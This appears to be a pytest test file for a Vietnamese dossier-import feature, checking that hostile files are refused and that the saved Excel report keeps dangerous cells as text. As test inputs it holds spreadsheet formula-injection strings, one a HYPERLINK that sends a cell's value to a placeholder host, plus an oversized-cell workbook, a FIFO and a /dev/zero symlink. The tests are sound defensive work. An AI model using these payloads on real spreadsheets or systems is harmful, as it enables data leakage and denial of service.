"""Hostile import files (issue 20, points 6 and 7): each is refused in one Vietnamese sentence naming
the file (and the line), quickly, without touching the register; the saved report runs nothing.

Every hostile file is built here, in the test's folder: no binary is committed."""

from __future__ import annotations

import codecs
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from app.errors import ValidationError
from app.importing import service
from app.importing.reading import read_table
from app.importing.report import report_folder
from db.models import Dossier
from tests.support.import_files import read_report

ROOT = Path(__file__).resolve().parents[2]

HEAD = "Mã hồ sơ,Ngày tiếp nhận,Hạn xử lý,Mã thủ tục,Người nộp\n"


def preview(Session, make_ctx, path):
    with Session() as session:
        return service.preview_dossiers(session, make_ctx(), path)


# -- 6 / issue 19.11: the report is a workbook of text cells ------------------------------------------

def test_the_import_report_is_a_workbook_whose_hostile_cells_stay_text(Session, make_ctx, tmp_path):
    hostile = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "@SUM(A1)", "+1+2", "-3-4"]
    lines = [f'"{code.replace(chr(34), chr(34) * 2)}",20/11/2026,27/11/2026,P3,An' for code in hostile]
    path = tmp_path / "=cmd.csv"
    path.write_text(HEAD + "\n".join(lines) + "\nHS-1,20/11/2026,27/11/2026,P3,Bình\n", encoding="utf-8")
    plan = preview(Session, make_ctx, path)
    report = service.save_dossier_report(make_ctx(), plan, None)
    assert report.suffix == ".xlsx" and report.parent == report_folder()
    assert not list(report_folder().glob("*.csv"))
    # no sheet holds a formula, not even the title naming the file "=cmd.csv"
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(report)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    rows = read_report(report)
    codes = {row[1] for row in rows["Dòng không nhập được"][4:]}
    assert {"'" + code for code in hostile} <= codes
    assert ("Số dòng dữ liệu", 5) in rows["Tóm tắt"]
    assert any(str(cell).endswith("=cmd.csv") for row in rows["Tóm tắt"] for cell in row if cell)


# -- 7: files checked before they are read -------------------------------------------------------------

def _workbook(path, far_cell=None, rows=3):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Mã hồ sơ", "Ngày tiếp nhận", "Hạn xử lý", "Mã thủ tục", "Người nộp"])
    for index in range(rows):
        sheet.append([f"HS-{index}", "20/11/2026", "27/11/2026", "P3", "An"])
    if far_cell:
        sheet[far_cell] = "x"
    book.save(path)
    return path


def _read_in_child(path, timeout=60):
    """read_table in a child process, with its memory bounded: what aborted or hung the old reader
    fails this test instead of taking pytest down."""
    code = ("import sys\n"
            "try:\n"
            "    import resource\n"
            "    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
            "except (ImportError, ValueError, OSError):\n"
            "    pass\n"
            "from app.errors import ValidationError\n"
            "from app.importing.reading import read_table\n"
            "try:\n"
            "    table = read_table(sys.argv[1])\n"
            "    print('READ', len(table.rows))\n"
            "except ValidationError as error:\n"
            "    print('REFUSED', error)\n")
    return subprocess.run([sys.executable, "-c", code, str(path)], cwd=ROOT, capture_output=True, text=True,
                          encoding="utf-8", timeout=timeout)


def test_a_5_kb_workbook_with_a_cell_at_xfd1048576_is_refused_not_the_end_of_the_process(tmp_path):
    path = _workbook(tmp_path / "bom.xlsx", "XFD1048576")
    assert path.stat().st_size < 10_000
    result = _read_in_child(path)
    assert result.returncode == 0, result.stderr[-500:]   # the old reader: 134, aborted asking for 512 GB
    assert result.stdout.startswith("REFUSED Tệp “bom.xlsx” có dữ liệu ở ô XFD1048576, ngoài vùng nhập được")


def test_a_declared_dimension_is_not_believed_either_way(tmp_path):
    """A sheet that declares A1:XFD1048576 but holds 4 rows is read (its real range), and a sheet that
    declares A1:E4 but holds a cell at XFD1048576 is refused."""
    import re as re_

    def declare(source, target, ref):
        with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
            for item in src.infolist():
                data = src.read(item)
                if item.filename == "xl/worksheets/sheet1.xml":
                    data = re_.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="%s"/>' % ref, data)
                dst.writestr(item, data)
        return target

    big = declare(_workbook(tmp_path / "a.xlsx"), tmp_path / "khai-lon.xlsx", b"A1:XFD1048576")
    assert _read_in_child(big).stdout.strip() == "READ 4"
    small = declare(_workbook(tmp_path / "b.xlsx", "XFD1048576"), tmp_path / "khai-nho.xlsx", b"A1:E4")
    assert _read_in_child(small).stdout.startswith("REFUSED")


def test_a_cell_at_zz100000_is_refused_at_once(tmp_path):
    path = _workbook(tmp_path / "xa.xlsx", "ZZ100000")
    started = time.perf_counter()
    with pytest.raises(ValidationError) as refused:
        read_table(path)
    assert time.perf_counter() - started < 3   # the old reader: 13–25 s to build 70 million cells
    assert "ô ZZ100000" in str(refused.value) and "xa.xlsx" in str(refused.value)


def test_a_wide_but_honest_export_is_still_read(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Mã hồ sơ", "Ngày tiếp nhận", "Người nộp"] + [f"Cột {n}" for n in range(40)])
    sheet.append(["HS-1", "20/11/2026", "An"] + ["x"] * 40)
    book.save(tmp_path / "rong.xlsx")
    assert len(read_table(tmp_path / "rong.xlsx").rows[0]) == 43


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
    path = tmp_path / "ong.csv"
    os.mkfifo(path)
    result = _read_in_child(path, timeout=30)    # the old reader opened it and waited for ever
    assert result.stdout.startswith("REFUSED “") and "là ống dẫn (FIFO), không phải tệp bảng tính" in result.stdout


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="no /dev/zero here")
def test_a_device_is_refused_before_it_is_read(tmp_path):
    link = tmp_path / "zero.csv"
    link.symlink_to("/dev/zero")
    result = _read_in_child(link, timeout=30)    # the old reader read /dev/zero until memory ran out
    assert result.stdout.startswith("REFUSED “") and "là thiết bị, không phải tệp bảng tính" in result.stdout


def test_a_file_above_the_size_limit_is_refused(tmp_path, monkeypatch):
    from app.importing import reading

    path = tmp_path / "to.csv"
    path.write_text(HEAD + "HS-1,20/11/2026,27/11/2026,P3,An\n" * 100, encoding="utf-8")
    monkeypatch.setattr(reading, "MAX_FILE_BYTES", 1024)
    with pytest.raises(ValidationError, match="Tệp “to.csv” quá lớn .*tối đa 0 MB mỗi lần nhập"):
        read_table(path)


@pytest.mark.parametrize("encoding, cut, line", [("utf-16", 1, 3), ("utf-16-le", 1, 3), ("utf-8-sig", 2, 3)])
def test_a_truncated_or_broken_csv_names_the_file_and_the_line(tmp_path, encoding, cut, line):
    text = HEAD + "HS-1,20/11/2026,27/11/2026,P3,Nguyễn Văn An\nHS-2,20/11/2026,27/11/2026,P3,Trần Thị Bích\n"
    data = text.encode(encoding)
    if encoding == "utf-8-sig":   # a lone continuation byte in the third line
        at = data.index("Trần".encode())
        data = data[:at] + b"\xff\xfe" + data[at + 2:]
    else:
        data = data[:-cut]          # cut in the middle of the last character
    if encoding == "utf-16-le":
        data = codecs.BOM_UTF16_LE + data
    path = tmp_path / "cat.csv"
    path.write_bytes(data)
    with pytest.raises(ValidationError) as refused:
        read_table(path)
    message = str(refused.value)
    assert message.startswith(f"Tệp “cat.csv” không đọc được ở dòng {line}: nội dung không đúng bảng mã UTF-")
    assert ("bị cắt cụt" in message) == (encoding != "utf-8-sig")


@pytest.mark.parametrize("headers, named", [
    ("Mã hồ sơ,Ngày tiếp nhận,Hạn xử lý,Mã thủ tục,Người nộp,Số hồ sơ",
     "cột “Mã hồ sơ” (cột A) và cột “Số hồ sơ” (cột F) cùng là “Mã hồ sơ”"),
    ("Mã hồ sơ,Ngày tiếp nhận,Hạn xử lý,Mã thủ tục,Người nộp,Mã hồ sơ",
     "cột “Mã hồ sơ” (cột A) và cột “Mã hồ sơ” (cột F) cùng là “Mã hồ sơ”"),
])
def test_two_columns_for_one_field_are_refused_naming_both(Session, make_ctx, tmp_path, headers, named):
    path = tmp_path / "hai-cot.csv"
    path.write_text(headers + "\nHS-1,20/11/2026,27/11/2026,P3,An,HS-2\n", encoding="utf-8")
    with pytest.raises(ValidationError) as refused:
        preview(Session, make_ctx, path)
    assert named in str(refused.value)   # the old import silently took the first


def test_codes_differing_only_in_case_are_one_dossier(Session, make_ctx, tmp_path):
    path = tmp_path / "hoa-thuong.csv"
    path.write_text(HEAD + "000.00.16.h19-261120-0001,20/11/2026,27/11/2026,P3,An\n"
                           "000.00.16.H19-261120-0001,20/11/2026,27/11/2026,P3,An\n", encoding="utf-8")
    plan = preview(Session, make_ctx, path)
    assert plan.added == 0 and [p.row for p in plan.problems] == [2, 3]
    assert "lặp lại trong tệp" in plan.problems[0].reason

    path.write_text(HEAD + "000.00.16.h19-261120-0001,20/11/2026,27/11/2026,P3,An\n", encoding="utf-8")
    with Session.begin() as session:
        _plan, result = service.import_dossiers(session, make_ctx(), path)
    assert result.added == 1
    path.write_text(HEAD + "000.00.16.H19-261120-0001,20/11/2026,27/11/2026,P3,An Bình\n", encoding="utf-8")
    with Session.begin() as session:
        _plan, result = service.import_dossiers(session, make_ctx(), path)
    assert (result.added, result.updated) == (0, 1)
    with Session() as session:
        assert session.execute(select(Dossier.code, Dossier.applicant_name)).all() == \
            [("000.00.16.H19-261120-0001", "An Bình")]


def test_a_code_stored_in_lower_case_before_is_still_the_same_dossier(Session, make_ctx, tmp_path):
    path = tmp_path / "cu.csv"
    path.write_text(HEAD + "HS-7,20/11/2026,27/11/2026,P3,An\n", encoding="utf-8")
    with Session.begin() as session:
        service.import_dossiers(session, make_ctx(), path)
        session.execute(update(Dossier).values(code="hs-7"))   # as an older version stored it
    path.write_text(HEAD + "Hs-7,20/11/2026,27/11/2026,P3,An Bình\n", encoding="utf-8")
    with Session.begin() as session:
        _plan, result = service.import_dossiers(session, make_ctx(), path)
    assert (result.added, result.updated) == (0, 1)
    with Session() as session:
        assert session.scalar(select(func.count()).select_from(Dossier)) == 1
        from app import dossiers

        assert dossiers.get(session, dossiers.find_id(session, "HS-7")).applicant_name == "An Bình"
